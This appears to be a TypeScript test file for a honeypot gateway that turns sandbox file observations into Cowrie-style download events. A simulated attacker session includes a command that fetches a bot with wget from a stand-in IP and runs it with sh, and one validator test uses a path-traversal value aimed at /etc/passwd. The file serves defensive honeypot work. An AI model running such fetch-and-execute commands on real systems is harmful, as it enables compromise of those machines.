import assert from "node:assert/strict";
import { test } from "node:test";
import { capturedFileEvents } from "../../gateway/events/captured-files.ts";
import { EventMapper } from "../../gateway/events/event-mapper.ts";
import { WitnessedFiles } from "../../gateway/events/witnessed-files.ts";
import { lateFactEvents } from "../../gateway/events/late-facts.ts";
import { fileFactOf } from "../../gateway/evidence/file-fact.ts";
import { toByteString } from "../../gateway/model/bytes.ts";
import type { FileFact } from "../../gateway/model/file-facts.ts";
import type { SandboxId, SessionId } from "../../gateway/model/ids.ts";
import { Conversation } from "../evidence/conversation.ts";

const [ONE, OTHER] = ["ab".repeat(32), "cd".repeat(32)];
const SANDBOX = "5a5a5a5a5a5a" as SandboxId;
const TIME = 1_700_000_000_000_000;

function fact(how: FileFact["how"], path: string, sha256?: string): FileFact {
  const kept = sha256 === undefined ? { leftOut: "too-large" as const } : { sha256 };
  return { ...{ kind: "file", how, path: bytes(path), ...kept, size: 9, pid: 14, uid: 0, time: TIME } };
}

function bytes(text: string) {
  return toByteString(Buffer.from(text, "latin1"));
}

/** The events of files of a session, and of what came after it. */
function told(facts: readonly FileFact[], late: readonly FileFact[] = [], captured: readonly string[] = []) {
  const talk = new Conversation().hello().password("root", "x", "accepted").leased();
  const exec = talk.open();
  talk.exec(exec, "cd /tmp; wget http://192.0.2.9/a/bot -O .b; sh .b").exits(exec, 0);
  for (const one of facts) talk.fact(one);
  const mapper = new EventMapper({ uuid: "u", arch: "a" });
  const events = talk.whole().flatMap((entry) => mapper.push(entry));
  assert.ok(mapper.envelope !== undefined);
  const capture = {
    ...{
      sandbox: SANDBOX,
      sessions: [] as SessionId[],
      source: "192.0.2.7",
      takenAt: "2026-11-23T02:20:00.000Z",
      cut: false,
    },
    changes: captured.map((path) => ({ kind: "A", path, type: "file", sha256: ONE }) as const),
  };
  const known = { seenBefore: () => false, toldBefore: () => false };
  events.push(...capturedFileEvents(mapper.envelope, capture, [], known));
  const after = late.map((one) => ({ at: one.time, sandbox: SANDBOX, fact: one }));
  events.push(...lateFactEvents(mapper.envelope, after));
  return events.filter(({ eventid }) => eventid === "cowrie.session.file_download");
}

test("an event of a file that was run tells what it is, how it was seen and where it came from", () => {
  const [event] = told([fact("run", "/tmp/.b", ONE)]);
  const fields = Object.entries(event ?? {});
  const own = fields.slice(fields.findIndex(([name]) => name === "message"));
  assert.deepEqual(own, [
    ["message", "File /tmp/.b was run in the sandbox"],
    ["url", "http://192.0.2.9/a/bot"],
    ["outfile", `data/artifacts/${ONE}`],
    ["shasum", ONE],
    ["duplicate", false],
    ["destfile", "/tmp/.b"],
    ["mitsubako_how", "run"],
    ["mitsubako_size", 9],
    ["mitsubako_pid", 14],
    ["mitsubako_uid", 0],
  ]);
});

test("each content at each path makes one event, whoever sees it: run, deleted, captured, late", () => {
  const events = told(
    [
      fact("run", "/tmp/x", ONE),
      fact("run-and-deleted", "/tmp/x", ONE),
      fact("run", "/tmp/y", ONE),
      fact("run", "/tmp/x", OTHER),
    ],
    [fact("deleted", "/tmp/x", ONE), fact("deleted", "/tmp/z", ONE), fact("deleted", "/tmp/w", ONE)],
    ["/tmp/y", "/tmp/z"],
  );
  assert.deepEqual(
    events.map(({ destfile, shasum, duplicate, late = false }) => [destfile, shasum, duplicate, late]),
    [
      ["/tmp/x", ONE, false, false],
      ["/tmp/y", ONE, true, false],
      ["/tmp/x", OTHER, false, false],
      ["/tmp/z", ONE, false, true],
      ["/tmp/w", ONE, true, true],
    ],
  );
});

test("what was not kept, and what a server writes by itself, makes none", () => {
  assert.deepEqual(
    told([
      fact("deleted", "/tmp/big"),
      fact("deleted", "/var/log/x", ONE),
      fact("deleted", "/etc/shadow+", ONE),
    ]),
    [],
  );
});

test("what is run is told wherever it lies, with how it is known whose it is", () => {
  const [event] = told([{ ...fact("run", "/run/.x", ONE), whose: "process" }]);
  assert.deepEqual([event?.["destfile"], event?.["mitsubako_whose"]], ["/run/.x", "process"]);
});

test("a file that shell commands wrote makes no second event when it is captured", () => {
  const files = new WitnessedFiles();
  const dropped = {
    ...{
      kind: "dropped",
      channel: 0,
      way: "echo",
      startedAt: 0n,
      size: 2,
      whole: true,
      pieces: [],
      entry: 1,
      at: 0n,
    },
    sha256: ONE,
  } as const;
  for (const path of ["/tmp/whole", "a/../b/part", "~/.home"])
    files.observe({ ...dropped, path: bytes(path), certainty: "written" });
  files.observe({ ...dropped, path: bytes("/tmp/typed"), certainty: "typed" });
  for (const [path, sha256, expected] of [
    ["/tmp/whole", ONE, true],
    ["/var/tmp/whole", ONE, false],
    ["/tmp/whole", OTHER, false],
    ["/srv/b/part", ONE, true],
    ["/srv/part", ONE, false],
    ["/root/.home", ONE, true],
    ["/tmp/typed", ONE, false],
  ] as const)
    assert.equal(files.hasTyped(path, sha256), expected, path);
});

test("a fact of a front that was taken over is checked", () => {
  const good = fact("run", "/tmp/\xff\n", ONE);
  assert.deepEqual(fileFactOf({ ...good, more: 1 }), good);
  for (const bad of [
    { how: "eaten" },
    { path: "/\u0100" },
    { path: "/".repeat(5000) },
    { sha256: "../../etc/passwd" },
    { size: -1 },
    { time: 0.5 },
    { leftOut: "because" },
    { pid: "1" },
    { whose: "mine" },
    { how: "overwritten" },
  ])
    assert.equal(fileFactOf({ ...good, ...bad }), undefined, JSON.stringify(bad));
});
